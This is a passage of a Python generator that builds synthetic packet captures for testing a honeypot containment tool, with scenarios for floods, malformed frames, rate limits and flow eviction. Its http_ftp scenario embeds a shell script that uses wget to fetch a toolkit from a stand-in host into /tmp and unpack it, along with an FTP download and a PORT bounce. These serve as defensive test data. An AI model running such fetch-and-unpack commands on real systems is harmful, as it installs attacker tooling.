    t += 2 * SEC
    n.udp(t, HP, "198.51.100.11", 44002, 7777, b"x")
    t += 2 * SEC
    n.udp(t, HP, "198.51.100.12", 44003, 7777, b"y")
    t += 2 * SEC
    n.udp(t, HP, "203.0.113.53", 44020, 53, q)
    t += 2 * SEC
    n.udp(t, HP, "198.51.100.10", 44000, 9999, b"more")


@scenario
def icmp_out(n, arg):
    """3 outbound pings from 10.0.0.5 (ids 1..3, to 198.51.100.1..3), 5 s
    apart, each 3 echo requests 1 s apart, each answered."""
    for i in range(3):
        dst = "198.51.100.%d" % (i + 1)
        for k in range(3):
            t = T0 + (i * 5 + k) * SEC
            n.ping(t, HP, dst, i + 1, k + 1)
            n.ping(t + 20 * MS, dst, HP, i + 1, k + 1, reply=True)


@scenario
def nonhoneypot(n, arg):
    """honeypots = 10.0.0.5 in 10.0.0.0/24: 10.0.0.77 (in networks, not a
    honeypot) opens a TCP connection to 198.51.100.77:80; then 10.0.0.5 one
    to 198.51.100.5:80."""
    n.session(T0, "10.0.0.77", "198.51.100.77", 45000, 80, isn_c=77)
    n.session(T0 + 10 * SEC, HP, "198.51.100.5", 45001, 80, isn_c=55)


RATE_PAYLOAD = 1000


@scenario
def rate(n, arg):
    """A UDP flood from 10.0.0.5:46000 to 198.51.100.9:9000: 1000 datagrams
    a second of RATE_PAYLOAD bytes (1042-byte frames, about 1 MB/s) for
    `arg` seconds (default 10)."""
    secs = arg or 10
    payload = bytes(range(256)) * 4
    payload = payload[:RATE_PAYLOAD]
    s, d = n.a(HP), n.a("198.51.100.9")
    ps = csum_partial(payload)
    for k in range(secs * 1000):
        n.add(T0 + k * MS, n.ip(s, d, 17, udp(s, d, 46000, 9000, payload, psum=ps)))


@scenario
def rate_junk(n, arg):
    """Under rate = 800kbit (100 kB/s): a UDP flow from 10.0.0.5:46001 to
    198.51.100.9:9000 at 80 frames of 1042 bytes a second (83 kB/s, inside
    the cap) for `arg` seconds (default 10), and between its frames 1000 a
    second of 1054-byte TCP ACK segments from the honeypot to flows that do
    not exist (a flood's evicted connections): dropped as no-state, they
    must not spend the honeypot's bytes."""
    secs = arg or 10
    payload = (bytes(range(256)) * 4)[:RATE_PAYLOAD]
    s, d = n.a(HP), n.a("198.51.100.9")
    ps = csum_partial(payload)
    for k in range(secs * 1000):
        t = T0 + k * MS
        if (k * 80) // 1000 != ((k - 1) * 80) // 1000 or k == 0:
            n.add(t, n.ip(s, d, 17, udp(s, d, 46001, 9000, payload, psum=ps)))
        j = "198.51.%d.%d" % (101 + (k >> 8) % 8, k & 255)
        n.add(t + MS // 2, n.ip(s, n.a(j), 6,
                                tcp(s, n.a(j), 40000 + k % 20000, 80, 7, 9, 0x10, payload)))


@scenario
def malformed(n, arg):
    """Normal traffic around 5 malformed frames, 11 s apart (so each gets its
    own rate-limited "malformed" alert):
      t=0    inbound TCP session 203.0.113.7 -> 10.0.0.5:22 (complete)
      t=20   IPv4 header cut after 12 bytes, from 203.0.113.66 (outside)
      t=31   IPv4 IHL = 3, from 203.0.113.66
      t=42   TCP data offset 2 (< 5), 203.0.113.66 -> 10.0.0.5:80
      t=53   TCP data offset 15 in a 20-byte segment, 10.0.0.5 -> 198.51.100.66
      t=64   IPv6 header cut after 20 bytes, from 2001:db8:ff:71::66
      t=80   inbound TCP session 203.0.113.8 -> 10.0.0.5:80 (complete)"""
    n.session(T0, "203.0.113.7", HP, 50001, 22, isn_c=1, isn_s=2)
    out, hp = "203.0.113.66", HP
    full = ip4(out, hp, 6, tcp(out, hp, 1234, 80, 1, 0, SYN))
    n.add(T0 + 20 * SEC, eth(HP_MAC, GW_MAC, 0x0800, full[:12]))
    bad = bytearray(full)
    bad[0] = 0x43
    n.add(T0 + 31 * SEC, eth(HP_MAC, GW_MAC, 0x0800, bytes(bad)))
    n.add(T0 + 42 * SEC, eth(HP_MAC, GW_MAC, 0x0800,
                             ip4(out, hp, 6, tcp(out, hp, 1234, 80, 1, 0, SYN, doff=2))))
    d = "198.51.100.66"
    n.add(T0 + 53 * SEC, eth(GW_MAC, HP_MAC, 0x0800,
                             ip4(hp, d, 6, tcp(hp, d, 45678, 80, 1, 0, SYN, doff=15))))
    s6, d6 = to_v6(out), to_v6(hp)
    p6 = ip6(s6, d6, 17, udp(s6, d6, 1, 2, b"zz"))
    n.add(T0 + 64 * SEC, eth(HP_MAC, GW_MAC, 0x86DD, p6[:20]))
    n.session(T0 + 80 * SEC, "203.0.113.8", HP, 50002, 80, isn_c=3, isn_s=4)


@scenario
def blocked_ends(n, arg):
    """tcp = 1/hour, udp = 1/hour: how refused outbound flows end.
      t=0     A: a whole TCP session to 198.51.100.1:80 (forwarded, counted)
      t=10    B: SYN to 198.51.100.2:81, retransmitted at 11 and 13 s, never
              answered (dropped: limit); then silence -> ends by timeout
      t=20    C: SYN to 198.51.100.3:82 (dropped), then the honeypot gives up
              with a RST at 21 s -> ends closed
      t=30    D: UDP to 198.51.100.4:53 (forwarded, counted), then
      t=31    E: UDP to 198.51.100.5:53 (dropped: limit) -> ends by timeout
      t=3600  an inbound UDP datagram 203.0.113.9 -> 10.0.0.5:7 (time passes)
      t=3610  F: SYN to 198.51.100.6:83: tcp is free again (forwarded); G: SYN
              to 198.51.100.7:84 at 3611 s, refused, and the capture ends
              within the embryonic timeout -> ends at shutdown"""
    n.session(T0, HP, "198.51.100.1", 47000, 80, isn_c=1)
    for k in (0, 1, 3):
        n.tcp(T0 + (10 + k) * SEC, HP, "198.51.100.2", 47001, 81, 2000, 0, SYN, options=MSS)
    n.tcp(T0 + 20 * SEC, HP, "198.51.100.3", 47002, 82, 3000, 0, SYN, options=MSS)
    n.tcp(T0 + 21 * SEC, HP, "198.51.100.3", 47002, 82, 3001, 0, RST)
    n.udp(T0 + 30 * SEC, HP, "198.51.100.4", 47003, 53, b"q4")
    n.udp(T0 + 31 * SEC, HP, "198.51.100.5", 47004, 53, b"q5")
    n.udp(T0 + 3600 * SEC, "203.0.113.9", HP, 5000, 7, b"tick")
    n.tcp(T0 + 3610 * SEC, HP, "198.51.100.6", 47005, 83, 6000, 0, SYN, options=MSS)
    n.tcp(T0 + 3611 * SEC, HP, "198.51.100.7", 47006, 84, 7000, 0, SYN, options=MSS)


@scenario
def other_release(n, arg):
    """other = 1/hour, tcp = 1/minute.
      t=0   GRE (IP protocol 47) from 10.0.0.5 to 198.51.100.1, 3 packets
            1 s apart (one flow: counts once), 2 back
      t=5   GRE to 198.51.100.2, 2 packets (a new flow: over the limit)
      t=10  TCP session to 198.51.100.3:80 (tcp 1/minute: forwarded)
      t=20  TCP session to 198.51.100.4:80 (refused: tcp blocked too)
      t=80  TCP session to 198.51.100.5:80 (the minute has passed: forwarded;
            tcp is free again but other stays blocked, so still contained)"""
    gre = b"\x00\x00\x08\x00" + bytes(range(40))
    s, d1, d2 = n.a(HP), n.a("198.51.100.1"), n.a("198.51.100.2")
    for k in range(3):
        n.add(T0 + k * SEC, n.ip(s, d1, 47, gre))
    for k in range(2):
        n.add(T0 + k * SEC + 10 * MS, n.ip(d1, s, 47, gre))
        n.add(T0 + (5 + k) * SEC, n.ip(s, d2, 47, gre))
    n.session(T0 + 10 * SEC, HP, "198.51.100.3", 48000, 80, isn_c=10)
    n.session(T0 + 20 * SEC, HP, "198.51.100.4", 48001, 80, isn_c=20)
    n.session(T0 + 80 * SEC, HP, "198.51.100.5", 48002, 80, isn_c=30)


MALFORMED_COUNT = 5


@scenario
def mixed(n, arg):
    """A bit of everything, for byte-identity and determinism: inbound and
    outbound TCP (some over the limit), UDP both ways, pings, an ICMP error,
    ARP, IPv6 TCP/UDP/ICMPv6, 802.1Q-tagged frames, a malformed frame, a
    frame with a bad IPv4 checksum, and an odd-length frame (wirelen >
    caplen: snapped)."""
    tcp_limit(n, arg)
    n.session(T0 + 2 * SEC, "203.0.113.7", HP, 50001, 22, isn_c=1, isn_s=2)
    n.udp(T0 + 3 * SEC, HP, "198.51.100.53", 44001, 53, b"\x01\x02query")
    n.udp(T0 + 3 * SEC + 5 * MS, "198.51.100.53", HP, 53, 44001, b"\x01\x02answer")
    n.ping(T0 + 4 * SEC, HP, "198.51.100.20", 5, 1)
    n.ping(T0 + 4 * SEC + 9 * MS, "198.51.100.20", HP, 5, 1, reply=True)
    n.ping(T0 + 6 * SEC, "203.0.113.11", HP, 6, 1)
    n.ping(T0 + 6 * SEC + MS, HP, "203.0.113.11", 6, 1, reply=True)
    # ARP who-has from the honeypot, reply from the router
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac_bytes(HP_MAC),
                      ip_bytes(HP), b"\0" * 6, ip_bytes("10.0.0.1"))
    n.add(T0 + 7 * SEC, eth("ff:ff:ff:ff:ff:ff", HP_MAC, 0x0806, arp))
    # IPv6 and VLAN variants of a few things
    v6 = Net(ipv6=True)
    v6.session(T0 + 8 * SEC, HP, "198.51.100.30", 40100, 80, isn_c=5)
    v6.ping(T0 + 9 * SEC, "203.0.113.31", HP, 31, 1)
    v6.ping(T0 + 9 * SEC + MS, HP, "203.0.113.31", 31, 1, reply=True)
    v6.udp(T0 + 9 * SEC + 5 * MS, HP, "198.51.100.32", 40200, 5000, b"six")
    tagged = Net(vlan=42)
    tagged.session(T0 + 11 * SEC, "203.0.113.40", HP, 50040, 25, isn_c=40)
    for other in (v6, tagged):
        for t, _, fr, wl in other.frames:
            n.add(t, fr, wl)
    # malformed: TCP data offset 2
    out = "203.0.113.66"
    n.add(T0 + 12 * SEC, eth(HP_MAC, GW_MAC, 0x0800,
                             ip4(out, HP, 6, tcp(out, HP, 1, 80, 1, 0, SYN, doff=2))))
    # bad IPv4 header checksum
    n.add(T0 + 13 * SEC, eth(HP_MAC, GW_MAC, 0x0800,
                             ip4(out, HP, 17, udp(out, HP, 7, 7, b"x"), bad_csum=True)))
    # snapped frame: 100 bytes captured of a 1514-byte frame
    big = n.ip(out, HP, 17, udp(out, HP, 8, 8, b"B" * 1472))
    n.add(T0 + 14 * SEC, big[:100], wirelen=len(big))


# Bodies of the http_ftp scenario (tests/replay/87-http-ftp.sh hashes them).
HTTP_SH = b"#!/bin/sh\ncd /tmp && wget http://203.0.113.80/t.gz && tar xzf t.gz\n"
HTTP_GZ_PLAIN = b"toolkit part two\n" * 64
TOOLKIT_TGZ = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03" + bytes(
    (i * 37 + 11) & 0xff for i in range(3000))


def _chunked(body, sizes):
    out, off = b"", 0
    for k in sizes:
        out += b"%x\r\n" % k + body[off:off + k] + b"\r\n"
        off += k
    return out + b"%x;x=1\r\n" % (len(body) - off) + body[off:] + b"\r\n0\r\n\r\n"


@scenario
def http_ftp(n, arg):
    """HTTP and FTP from the honeypot.  HTTP: 10.0.0.5:40010 ->
    203.0.113.80:80, two pipelined GETs (a shell script by Content-Length;
    a gzip body in odd-sized chunks) in 100-byte segments.  FTP: control
    10.0.0.5:40020 -> 203.0.113.21:21 (anonymous login, PASV, RETR
    toolkit.tgz, PORT to a third host: a bounce), and its data connection
    10.0.0.5:40021 -> 203.0.113.21:50000 carrying TOOLKIT_TGZ between the
    150 and 226 replies.  Test: tests/replay/87-http-ftp.sh."""
    import gzip
    gz = gzip.compress(HTTP_GZ_PLAIN, mtime=0)
    n.conversation(T0, HP, "203.0.113.80", 40010, 80, [
        ("c", b"GET /toolkit.sh HTTP/1.1\r\nHost: 203.0.113.80\r\n"
              b"User-Agent: Wget/1.21.3\r\n\r\n"
              b"GET /t.gz HTTP/1.1\r\nHost: 203.0.113.80\r\n\r\n"),
        ("s", b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
              % len(HTTP_SH) + HTTP_SH +
              b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
              b"Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"
              + _chunked(gz, [1, 7, 33]))], mss=100)
    # Control: 100 ms per turn, so the data connection fits between the
    # 150 (sent at +1.112 s) and the 226 (+1.213 s).
    t1 = T0 + 2 * SEC
    n.conversation(t1, HP, "203.0.113.21", 40020, 21, [
        ("s", b"220 (vsFTPd 3.0.3)\r\n"),
        ("c", b"USER anonymous\r\n"),
        ("s", b"331 Please specify the password.\r\n"),
        ("c", b"PASS toor@\r\n"),
        ("s", b"230 Login successful.\r\n"),
        ("c", b"TYPE I\r\n"),
        ("s", b"200 Switching to Binary mode.\r\n"),
        ("c", b"PASV\r\n"),
        ("s", b"227 Entering Passive Mode (203,0,113,21,195,80).\r\n"),
        ("c", b"RETR toolkit.tgz\r\n"),
        ("s", b"150 Opening BINARY mode data connection for toolkit.tgz (3010 bytes).\r\n"),
        ("s", b"226 Transfer complete.\r\n"),
        ("c", b"PORT 192,0,2,25,0,25\r\n"),
        ("s", b"200 PORT command successful. Consider using PASV.\r\n"),
        ("c", b"QUIT\r\n"),
        ("s", b"221 Goodbye.\r\n")], rtt=100 * MS)
    n.conversation(t1 + 1113 * MS, HP, "203.0.113.21", 40021, 50000,
                   [("s", TOOLKIT_TGZ)], rtt=5 * MS)


@scenario
def midnight(n, arg):
    """From 2026-11-26 23:59:50 to 2026-11-27 00:00:10 UTC, one inbound UDP
    datagram a second (203.0.113.(1..21):5000 -> 10.0.0.5:7), 21 frames: 10
    before midnight, 11 from midnight on."""
    base = calendar.timegm((2026, 11, 26, 23, 59, 50)) * SEC
    for k in range(21):
        n.udp(base + k * SEC, "203.0.113.%d" % (k + 1), HP, 5000, 7, b"tick%d" % k)


# ---------------------------------------------------------------- benchmark


def bench(path, size_mb, nsec=False):
    """A large mixed capture, streamed: per round (one simulated second)
    short inbound TCP connections with payload, outbound ones (most over the
    limit), bulk downloads, small UDP flows, pings and a slice of a SYN scan.
    Frames are assembled from cached pieces so Python keeps up."""
    limit = size_mb * 1_000_000
    hp_count = 20
    hps = ["10.0.0.%d" % (10 + i) for i in range(hp_count)]
    bulk_payload = bytes((i * 7) & 0xFF for i in range(1448))
    bulk_ps = csum_partial(bulk_payload)
    req = b"GET /index.html HTTP/1.1\r\nHost: www\r\nUser-Agent: bench\r\n\r\n"
    resp = b"HTTP/1.1 200 OK\r\nContent-Length: 600\r\n\r\n" + b"x" * 600
    small = b"q" * 48
    n = Net()
    written = 0
    conn = 0
    t = T0
    with open(path, "wb") as f:
        w = Pcap(f, nsec=nsec)

        def flush():
            nonlocal written
            n.frames.sort(key=lambda x: (x[0], x[1]))
            for ts, _, fr, wl in n.frames:
                w.write(ts, fr, wl)
                written += 16 + len(fr)
            n.frames.clear()

        rnd = 0
        while written < limit:
            # 200 short inbound connections with payload
            for k in range(200):
                conn += 1
                hp = hps[conn % hp_count]
                cli = "198.51.%d.%d" % (100 + (conn >> 8) % 50, conn & 0xFF)
                n.session(t + k * 4 * MS, cli, hp, 10000 + conn % 50000,
                          (80, 22, 25, 443)[conn % 4], isn_c=conn * 7919,
                          isn_s=conn * 104729, req=req, resp=resp, rtt=MS)
            # 20 outbound connections (limits make most of them drops)
            for k in range(20):
                conn += 1
                hp = hps[(conn + k) % hp_count]
                n.session(t + k * 40 * MS, hp, "203.0.113.%d" % (k + 1),
                          20000 + conn % 40000, 6667, isn_c=conn, isn_s=conn * 3)
            # 4 bulk uploads into a honeypot, 200 full segments each
            for k in range(4):
                hp = hps[(rnd + k) % hp_count]
                cli = "198.51.100.%d" % (200 + k)
                sp, dp = 30000 + (rnd * 4 + k) % 30000, 21
                s, d = n.a(cli), n.a(hp)
                seq, hseq = 1_000_000 * k, 77
                tb = t + k * MS
                n.tcp(tb, cli, hp, sp, dp, seq, 0, SYN, options=MSS)
                n.tcp(tb + MS, hp, cli, dp, sp, hseq, seq + 1, SYN | ACK, options=MSS)
                seq += 1
                hseq += 1
                n.tcp(tb + 2 * MS, cli, hp, sp, dp, seq, hseq, ACK)
                for j in range(200):
                    tj = tb + 3 * MS + j * 4 * MS
                    n.add(tj, n.ip(s, d, 6, tcp(s, d, sp, dp, seq, hseq, ACK,
                                                bulk_payload, psum=bulk_ps)))
                    seq += 1448
                    if j % 8 == 7:
                        n.tcp(tj + 100_000, hp, cli, dp, sp, hseq, seq, ACK)
                te = tb + 900 * MS
                n.tcp(te, cli, hp, sp, dp, seq, hseq, FIN | ACK)
                n.tcp(te + MS, hp, cli, dp, sp, hseq, seq + 1, FIN | ACK)
                n.tcp(te + 2 * MS, cli, hp, sp, dp, seq + 1, hseq + 1, ACK)
            # 300 small UDP flows, half answered
            for k in range(300):
                hp = hps[k % hp_count]
                cli = "203.0.%d.%d" % (113 + (k & 1), (rnd * 300 + k) & 0xFF)
                sp = 1024 + (rnd * 300 + k) % 60000
                n.udp(t + k * 3 * MS, cli, hp, sp, 53, small)
                if k & 1:
                    n.udp(t + k * 3 * MS + MS, hp, cli, 53, sp, small)
            # 20 pings in, 5 out
            for k in range(25):
                hp = hps[k % hp_count]
                far = "198.51.100.%d" % (k + 1)
                a, b = (far, hp) if k < 20 else (hp, far)
                n.ping(t + k * 37 * MS, a, b, rnd & 0xFFFF, k)
                n.ping(t + k * 37 * MS + MS, b, a, rnd & 0xFFFF, k, reply=True)
            # a SYN scan slice: 200 ports of one honeypot, RST or SYN-ACK back
            hp = hps[rnd % hp_count]
            for k in range(200):
                port = (rnd * 200 + k) % 65535 + 1
                ts = t + k * 5 * MS
                n.tcp(ts, "192.0.2.99", hp, 61000, port, 424242, 0, SYN, options=MSS)
                if port % 10 == 0:
                    n.tcp(ts + MS, hp, "192.0.2.99", port, 61000, port, 424243, SYN | ACK)
                    n.tcp(ts + 2 * MS, "192.0.2.99", hp, 61000, port, 424243, 0, RST)
                else:
                    n.tcp(ts + MS, hp, "192.0.2.99", port, 61000, 0, 424243, RST | ACK)
            flush()
            t += SEC
            rnd += 1
    return w.frames


@scenario
def evict(n, arg):
    """max_flows = 16; tcp = 5/hour, udp = 2/hour, icmp = 1/hour.  10.0.0.5
    opens 3 outbound connections, each answered (established):
      0 s    TCP :40001 -> 198.51.100.1:80 (handshake, request, response)
      1 s    UDP :44000 -> 198.51.100.2:9999 and a reply
      2 s    ICMP echo id 7 -> 198.51.100.3 and the reply
    10 s     40 inbound SYNs 203.0.113.1..40:50000 -> :22, 10 ms apart,
             none answered (half-open: they evict one another, not the 3)
    11 s     a mid-stream TCP segment and a datagram on the 3 connections
    20 s     16 inbound connections 203.0.113.101..116:50001 -> :22, each
             SYN, SYN-ACK, ACK, 10 ms apart (established: once the half-open
             ones are gone they push out the 3 outbound ones, ICMP first)
    30 s     the honeypot's next segment of the TCP connection (no flow:
             dropped), then 100 ms apart a datagram of the same UDP flow and
             an echo request with the same id (new connections: counted)"""
    srv_tcp, srv_udp, srv_icmp = "198.51.100.1", "198.51.100.2", "198.51.100.3"
    req = b"GET / HTTP/1.0\r\n\r\n"
    resp = b"HTTP/1.0 200 OK\r\n\r\nhello\n"
    n.session(T0, HP, srv_tcp, 40001, 80, isn_c=1000, isn_s=5000, req=req,
              resp=resp, close=False)
    c, s = 1001 + len(req), 5001 + len(resp)
    n.udp(T0 + SEC, HP, srv_udp, 44000, 9999, b"u0")
    n.udp(T0 + SEC + 10 * MS, srv_udp, HP, 9999, 44000, b"r0")
    n.ping(T0 + 2 * SEC, HP, srv_icmp, 7, 1)
    n.ping(T0 + 2 * SEC + 20 * MS, srv_icmp, HP, 7, 1, reply=True)
    t = T0 + 10 * SEC
    for i in range(40):
        n.tcp(t + i * 10 * MS, "203.0.113.%d" % (i + 1), HP, 50000, 22,
              70000 + i, 0, SYN, options=MSS)
    t = T0 + 11 * SEC
    n.tcp(t, HP, srv_tcp, 40001, 80, c, s, PSH | ACK, b"more1")
    c += 5
    n.udp(t + 100 * MS, HP, srv_udp, 44000, 9999, b"u1")
    t = T0 + 20 * SEC
    for i in range(16):
        cli, ti, isn = "203.0.113.%d" % (101 + i), t + i * 10 * MS, 80000 + i
        n.tcp(ti, cli, HP, 50001, 22, isn, 0, SYN, options=MSS)
        n.tcp(ti + MS, HP, cli, 22, 50001, 90000 + i, isn + 1, SYN | ACK, options=MSS)
        n.tcp(ti + 2 * MS, cli, HP, 50001, 22, isn + 1, 90001 + i, ACK)
    t = T0 + 30 * SEC
    n.tcp(t, HP, srv_tcp, 40001, 80, c, s, PSH | ACK, b"more2")
    n.udp(t + 100 * MS, HP, srv_udp, 44000, 9999, b"u2")
    n.ping(t + 200 * MS, HP, srv_icmp, 7, 2)


# ---------------------------------------------------------------- main


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("scenario", nargs="?")
    ap.add_argument("out", nargs="?")
    ap.add_argument("--ipv6", action="store_true", help="IPv6 addresses")
    ap.add_argument("--vlan", type=int, help="802.1Q-tag every frame with VID")
    ap.add_argument("--nsec", action="store_true", help="nanosecond pcap")
    ap.add_argument("--arg", type=int, default=0, help="scenario parameter")
    ap.add_argument("--list", action="store_true", help="list scenarios")
    a = ap.parse_args()
    if a.list:
        for name, fn in SCENARIOS.items():
            print("%-12s %s" % (name, fn.__doc__.strip().split("\n")[0]))
        print("%-12s %s" % ("bench", "large mixed capture; --arg = size in MB"))
        return 0
    if not a.scenario or not a.out:
        ap.error("SCENARIO and OUT are needed (--list shows the scenarios)")
    if a.scenario == "bench":
        frames = bench(a.out, a.arg or 1000, a.nsec)
    elif a.scenario in SCENARIOS:
        n = Net(ipv6=a.ipv6, vlan=a.vlan)
        SCENARIOS[a.scenario](n, a.arg)
        frames = n.write(a.out, a.nsec)
    else:
        ap.error("unknown scenario %r (--list)" % a.scenario)
    print("%s: %d frames" % (a.out, frames), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
